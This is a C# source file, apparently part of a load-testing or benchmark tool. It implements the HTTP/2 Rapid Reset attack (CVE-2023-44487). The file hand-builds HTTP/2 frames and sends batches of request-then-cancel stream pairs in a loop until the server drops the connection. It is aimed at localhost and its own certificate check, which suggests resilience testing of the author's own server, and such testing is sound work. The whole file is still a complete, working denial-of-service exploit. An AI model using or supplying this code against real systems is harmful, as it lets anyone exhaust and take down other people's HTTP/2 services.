using System.Buffers.Binary;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;

namespace Tokonomics.Bench.Load;

/// <summary>CVE-2023-44487: requests over HTTP/2, each reset in the next frame, so that the limit of open streams never holds them.</summary>
internal static class RapidReset
{
    private const byte Headers = 1, Reset = 3, Settings = 4, EndOfStreamAndHeaders = 0x5;

    /// <summary>Until the server closes the connection.</summary>
    public static async Task RunAsync(Socket socket, Uri url, Action sent, CancellationToken cancellationToken)
    {
        await using var stream = new SslStream(new NetworkStream(socket), false, Wire.IsOurs);
        await stream.AuthenticateAsClientAsync(new SslClientAuthenticationOptions { TargetHost = "localhost", ApplicationProtocols = [SslApplicationProtocol.Http2] }, cancellationToken);
        await stream.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray(), cancellationToken);
        await stream.WriteAsync(Frame(Settings, 0, 0, []), cancellationToken);
        var drained = stream.CopyToAsync(Stream.Null, cancellationToken);
        byte[] headers = [.. Header(":method", "POST"), .. Header(":scheme", "https"), .. Header(":path", url.PathAndQuery), .. Header(":authority", "localhost"), .. Header("content-type", "application/json")];
        for (var id = 1; !drained.IsCompleted && id < int.MaxValue - 200;)
        {
            using var batch = new MemoryStream();
            for (var i = 0; i < 100; i++, id += 2)
            {
                batch.Write(Frame(Headers, EndOfStreamAndHeaders, id, headers));
                batch.Write(Frame(Reset, 0, id, [0, 0, 0, 8])); // CANCEL
                sent();
            }

            await stream.WriteAsync(batch.ToArray(), cancellationToken);
        }

        await drained;
    }

    private static byte[] Frame(byte type, byte flags, int streamId, ReadOnlySpan<byte> payload)
    {
        var frame = new byte[9 + payload.Length];
        (frame[1], frame[2], frame[3], frame[4]) = ((byte)(payload.Length >> 8), (byte)payload.Length, type, flags);
        BinaryPrimitives.WriteInt32BigEndian(frame.AsSpan(5), streamId);
        payload.CopyTo(frame.AsSpan(9));
        return frame;
    }

    // RFC 7541, 6.2.2: a literal that is not indexed, its name written out, without Huffman. Each is shorter than 127 bytes.
    private static byte[] Header(string name, string value) => [0, (byte)name.Length, .. Encoding.ASCII.GetBytes(name), (byte)value.Length, .. Encoding.ASCII.GetBytes(value)];
}
